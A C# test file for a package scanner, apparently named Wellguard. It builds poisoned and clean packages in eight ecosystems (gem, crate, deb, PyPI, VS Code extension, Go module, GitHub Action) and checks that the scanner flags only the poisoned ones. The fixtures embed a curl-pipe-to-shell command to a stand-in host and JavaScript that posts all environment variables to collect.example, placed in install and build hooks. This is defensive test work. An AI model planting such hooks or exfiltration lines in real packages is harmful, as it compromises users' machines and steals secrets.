using System.Text.Json;
using Wellguard.Tests;
using Wellguard.Tests.Packages;
using Xunit;

namespace Wellguard;

/// <summary><c>scan</c> of a package of each ecosystem beside npm, as a user types it: one that is poisoned, and the same without its poison.</summary>
public sealed class PackageFormatTests : IDisposable
{
    private const string Command = "curl -s http://192.0.2.9/x | sh";
    private const string Steals = "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.end(JSON.stringify(process.env))\n";
    private const string Specification = "--- !ruby/object:Gem::Specification\nname: example\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\nextensions:\n- ext/example/extconf.rb\nrequire_paths:\n- lib\n";
    private const string Extension = """{"publisher":"somebody","name":"example","version":"1.0.0","main":"./out/main.js","activationEvents":["onStartupFinished"]}""";

    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("wellguard-formats-");

    public void Dispose() => folder.Delete(recursive: true);

    [Theory]
    [InlineData("example-1.0.0.gem", "pkg:gem/example@1.0.0", "gem runs it when the package is installed", "ext/example/extconf.rb", 2)]
    [InlineData("example-1.0.0.crate", "pkg:cargo/example@1.0.0", "cargo runs it in every build", "example-1.0.0/build.rs", 2)]
    [InlineData("example_1.0-1_all.deb", "pkg:deb/example@1.0-1", "dpkg runs it when the package is installed", "DEBIAN/postinst", 3)]
    [InlineData("python3-example_1.0-1_all.deb", "pkg:deb/example@1.0-1", "runs when it is imported", "usr/lib/python3/dist-packages/example/__init__.py", 2)]
    [InlineData("example-1.0.0.vsix", "pkg:vscode-extension/somebody/example@1.0.0", "runs whenever the editor starts", "extension/out/main.js", 2)]
    [InlineData("v1.0.0.zip", "pkg:golang/example.com/a/b@v1.0.0", "runs when what imports it starts", "example.com/a/b@v1.0.0/b.go", 6)]
    [InlineData("action", "pkg:githubactions/action", "runs as a step of the workflow", "action.yml", 7)]
    [InlineData("example-1.0.tar.xz", "pkg:pypi/example@1.0", "pip runs it when the package is installed", "example-1.0/setup.py", 2)]
    public async Task A_poisoned_package_is_blocked_where_it_runs_and_an_honest_one_is_not(string name, string purl, string trigger, string path, int line)
    {
        using var poisoned = await ScanAsync(Write(name, isPoisoned: true), 1);
        Assert.Equal(purl, poisoned.RootElement.GetProperty("artifact").GetProperty("purl").GetString());
        var signal = poisoned.RootElement.GetProperty("signals").EnumerateArray().First();
        var where = signal.GetProperty("where");
        Assert.Equal((path, line), (where.GetProperty("path").GetString(), where.GetProperty("line").GetInt32()));
        Assert.Contains(trigger, signal.GetProperty("trigger").GetString(), StringComparison.Ordinal);

        using var honest = await ScanAsync(Write(name, isPoisoned: false), 0);
        Assert.Equal(purl, honest.RootElement.GetProperty("artifact").GetProperty("purl").GetString());
        Assert.Empty(honest.RootElement.GetProperty("signals").EnumerateArray());
        Assert.Equal("complete", honest.RootElement.GetProperty("completeness").GetProperty("state").GetString());
    }

    private static async Task<JsonDocument> ScanAsync(string target, int code)
    {
        var run = await Executable.RunAsync("scan", target, "--no-cache", "--format", "json");
        Assert.True(run.Code == code, $"{target}: exit code {run.Code}\n{run.Output}{run.Errors}");
        return JsonDocument.Parse(run.Output);
    }

    /// <summary>The same file again without what is bad in it.</summary>
    private string Write(string name, bool isPoisoned)
    {
        var path = Path.Combine(folder.FullName, name);
        var command = isPoisoned ? Command : "true";
        if (name == "action")
        {
            Directory.CreateDirectory(path);
            File.WriteAllText(Path.Combine(path, "action.yml"), $"name: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        {command}\n");
            return path;
        }

        var python = $"import os\nos.system('{command}')\n";
        var bytes = name switch
        {
            "example-1.0.0.gem" => PackageForms.Gem(Specification, "ext/example/extconf.rb", $"require 'mkmf'\nsystem('{command}')\n", "lib/example.rb", "puts 1\n"),
            "example-1.0.0.crate" => PackageForms.Gzip(PackageForms.Tar("example-1.0.0/Cargo.toml", "[package]\nname = \"example\"\nversion = \"1.0.0\"\n", "example-1.0.0/build.rs", $"fn main() {{\n    std::process::Command::new(\"sh\").args([\"-c\", \"{command}\"]).status().unwrap();\n}}\n")),
            "example_1.0-1_all.deb" => PackageForms.Debian(["postinst", $"#!/bin/sh\nset -e\n{command}\n"]),
            "python3-example_1.0-1_all.deb" => PackageForms.Debian([], "./usr/lib/python3/dist-packages/example/__init__.py", python),
            "example-1.0.0.vsix" => PackageForms.Extension(Extension, "extension/out/main.js", isPoisoned ? Steals : "exports.activate = () => 1\n"),
            "v1.0.0.zip" => PackageForms.Zip("example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n", "example.com/a/b@v1.0.0/b.go", $"package b\n\nimport \"os/exec\"\n\nfunc init() {{\n\texec.Command(\"/bin/sh\", \"-c\", \"{command}\").Start()\n}}\n"),
            _ => PackageForms.Tar("example-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n", "example-1.0/setup.py", python),
        };
        if (!name.EndsWith(".xz", StringComparison.Ordinal))
        {
            File.WriteAllBytes(path, bytes);
            return path;
        }

        File.WriteAllBytes(path[..^3], bytes);
        Tool.Run("xz", "-f", path[..^3]);
        return path;
    }
}
